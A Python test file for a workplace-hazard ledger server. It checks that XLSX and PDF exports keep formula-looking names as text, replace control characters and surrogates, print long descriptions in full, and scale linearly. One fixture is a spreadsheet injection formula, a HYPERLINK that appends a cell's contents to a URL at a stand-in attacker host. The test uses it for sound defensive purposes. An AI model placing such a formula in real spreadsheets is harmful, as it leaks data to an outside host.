"""Whatever text was stored, every document renders it: workbooks keep it as text, PDFs wrap it.

A control character in one hazard title made the ledger of a whole city answer 500, a long
description broke the notice, and a title starting with ``=`` became a live formula.
"""

from __future__ import annotations

import gc
import io
import time
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import Connection, Engine, select, update

from shared.hazards import Hazard
from shared.text import LIMITS, TextKind
from sync_server.demo import KITCHEN, seed_demo
from sync_server.lists import documents
from sync_server.lists.export import export_workbook
from sync_server.lists.ledger import Ledger, ledger_pdf, ledger_xlsx
from sync_server.lists.notice import Notice, NoticeItem, notice_pdf
from sync_server.lists.pdf import Document
from sync_server.lists.printable import REPLACEMENT
from sync_server.lists.store import load_reference
from sync_server.schema import hazards, reference
from tests.conftest import SECRET
from tests.sync_server.lists.pdf_reading import pdf_text
from tests.sync_server.lists.workbooks import load_workbook

TODAY = date(2026, 11, 30)
HAZARD = "YH-2026-0001"
FORMULA = '=HYPERLINK("http://evil.example/"&C6,"点击查看")'
CONTROLS = "\u0000\u0007\u001b\u007f\u0085\ufffe"
"""Controls and a non-character; lone surrogates cannot be stored in PostgreSQL's JSON at all."""
SURROGATES = "\udfff\ud800"
END = "【完】"
NAME_MAX = LIMITS[TextKind.NAME]
LONG = "灶台液化气软管老化开裂，" * 110 + "A" * 700 + END  # 2,000+ characters, a 700-letter word


@pytest.fixture
def city(app) -> Engine:
    with app.state.engine.begin() as conn:
        seed_demo(conn, history=True, today=TODAY)
    engine: Engine = app.state.engine
    return engine


def _change_hazard(conn: Connection, **fields: str) -> None:
    body = conn.execute(select(hazards.c.body).where(hazards.c.id == HAZARD)).scalar_one()
    conn.execute(update(hazards).where(hazards.c.id == HAZARD).values(body={**body, **fields}))


def _change_reference(conn: Connection, kind: str, key: str, **fields: Any) -> None:
    where = (reference.c.kind == kind, reference.c.id == key)
    body = conn.execute(select(reference.c.body).where(*where)).scalar_one()
    conn.execute(update(reference).where(*where).values(body={**body, **fields}))


def _hostile_hazard(city: Engine) -> None:
    with city.begin() as conn:
        _change_hazard(
            conn,
            title=FORMULA,
            description=CONTROLS + LONG,
            location=f"后厨{CONTROLS}",
            measures=LONG,
        )


def _ledger(conn: Connection, fmt: documents.LedgerFormat) -> bytes:
    return documents.ledger(
        conn, [KITCHEN], scope="厨房", start=date(2026, 11, 1), end=TODAY, fmt=fmt
    )


def _row_of(sheet: Any, column: str, value: str) -> dict[str, Any]:
    header = [cell.value for cell in sheet[4]]
    for row in sheet.iter_rows(5):
        cells = dict(zip(header, row, strict=True))
        if cells[column].value == value:
            return cells
    raise AssertionError(f"no row with {column} {value}")


def test_a_ledger_workbook_keeps_a_formula_looking_title_as_text_and_controls_replaced(city):
    _hostile_hazard(city)
    with city.connect() as conn:
        book = load_workbook(io.BytesIO(_ledger(conn, "xlsx")))
    row = _row_of(book["隐患台账"], "隐患编号", HAZARD)
    assert row["隐患名称"].value == FORMULA
    assert row["隐患名称"].data_type == "s"  # text, not a live formula
    assert row["隐患描述"].value == REPLACEMENT * len(CONTROLS) + LONG
    assert row["所在位置"].value == "后厨" + REPLACEMENT * len(CONTROLS)
    assert all(cell.data_type != "f" for line in book["隐患台账"].iter_rows() for cell in line)


def test_a_ledger_pdf_prints_a_long_title_to_its_end(city):
    with city.begin() as conn:
        _change_hazard(conn, title=CONTROLS + LONG)
    with city.connect() as conn:
        text = pdf_text(_ledger(conn, "pdf"))
    assert END in text and "灶台液化气软管老化开裂" in text


def test_a_notice_prints_a_long_description_and_measures_in_full(city):
    _hostile_hazard(city)
    with city.connect() as conn:
        text = pdf_text(documents.hazard_notice(conn, HAZARD, visible=None))
    assert text.count(END) == 2  # the description's end and the measures' end
    assert "隐患整改通知书" in text and "=HYPERLINK" in text


def test_an_export_keeps_formula_looking_names_as_text_and_imports_back_unchanged(city):
    with city.begin() as conn:
        _change_reference(conn, "workshop", "W-KITCHEN", name=FORMULA)
        _change_reference(conn, "enterprise", KITCHEN, name="+SUM(1,2)" + CONTROLS)
        refs = load_reference(conn, [KITCHEN])
    book = load_workbook(io.BytesIO(export_workbook(refs)))
    names = {row[1].value: row[2] for row in book["车间"].iter_rows(2)}
    assert names["W-KITCHEN"].value == FORMULA and names["W-KITCHEN"].data_type == "s"
    company = next(book["企业"].iter_rows(2))
    assert company[1].value == "+SUM(1,2)" + REPLACEMENT * len(CONTROLS)
    assert all(cell.data_type != "f" for ws in book for line in ws.iter_rows() for cell in line)


def test_card_sheets_print_hostile_and_very_long_names(city):
    with city.begin() as conn:
        # Names stored before the edge's character rule, as long as a name may be.
        _change_reference(conn, "enterprise", KITCHEN, name=(CONTROLS + LONG)[:NAME_MAX])
        _change_reference(conn, "post", "P-STOVE", name=(FORMULA + "\n" + LONG)[:NAME_MAX])
    with city.connect() as conn:
        posts = documents.post_cards_pdf(conn, KITCHEN, SECRET, visible=None)
        gates = documents.enterprise_cards_pdf(conn, [KITCHEN], SECRET, visible=None)
    assert "=HYPERLINK" in pdf_text(posts)
    assert REPLACEMENT * len(CONTROLS) + "灶台液化气软管" in pdf_text(gates)  # then cut with …


def test_lone_surrogates_render_in_every_format_as_replacement_characters():
    hazard = _hazards(1)[0].model_copy(update={"title": f"软管{SURROGATES}", "measures": LONG})
    book = Ledger("厨房", date(2026, 11, 1), TODAY, [hazard], {}, {}, datetime.now(UTC))
    sheet = load_workbook(io.BytesIO(ledger_xlsx(book)))["隐患台账"]
    assert sheet["D5"].value == "软管" + REPLACEMENT * 2
    assert "软管" in pdf_text(ledger_pdf(book))
    item = NoticeItem(hazard.title, SURROGATES, "一般", LONG, "立即")
    notice = Notice("N-1", "厨房", "91130302MA0DEM001Y", "海港区", "2026-11-30", "王", [item])
    assert END in pdf_text(notice_pdf(notice))


def test_fitting_4000_characters_on_a_line_measures_them_a_few_times_not_once_each():
    class Counting(Document):
        measured = 0

        def get_string_width(
            self, s: str, normalized: bool = False, markdown: bool = False
        ) -> float:
            self.measured += len(s)
            return float(super().get_string_width(s, normalized, markdown))

    doc = Counting("fit")
    doc.add_page()
    doc.set_font("sans", size=8)
    text = "隐患描述Ab" * 666 + "长" * 4
    assert len(text) == 4_000
    fitted = doc.fit(text, 60)
    assert doc.measured < 20 * len(text)  # one character at a time measured ~8 million
    shown = fitted.removesuffix("…")
    assert doc.get_string_width(fitted) <= 60
    assert doc.get_string_width(text[: len(shown) + 1] + "…") > 60  # no shorter than needed
    doc.bytes()  # output closes the font files


def _hazards(count: int) -> list[Hazard]:
    first = datetime(2026, 11, 1, tzinfo=UTC)
    body = {
        "tenant": KITCHEN, "status": "reported", "grade": "general", "title": "液化气软管超长",
        "description": "软管长度超过2米且有三通接口" * 4, "category": 1, "management_class": 2,
        "source": 1, "location": "后厨灶台", "post_id": None, "card_id": None, "item_id": None,
        "reporter": "worker1",
    }  # fmt: skip
    return [
        Hazard.model_validate(
            {**body, "id": f"YH-{n:06d}", "reported_at": first + timedelta(minutes=n)}
        )
        for n in range(count)
    ]


def _xlsx_seconds(count: int) -> float:
    book = Ledger("厨房", date(2026, 11, 1), TODAY, _hazards(count), {}, {}, datetime.now(UTC))
    gc.disable()  # a collection landing in one run but not the other is not the ledger's cost
    try:
        started = time.process_time()  # CPU time: other processes on a busy machine do not count
        ledger_xlsx(book)
        return time.process_time() - started
    finally:
        gc.enable()


def test_a_ledger_workbook_of_eight_times_the_hazards_takes_about_eight_times_as_long():
    small = min(_xlsx_seconds(300) for _ in range(2))
    large = _xlsx_seconds(2_400)
    assert large / small < 14  # linear is 8; scanning the sheet for every row was 40 or more
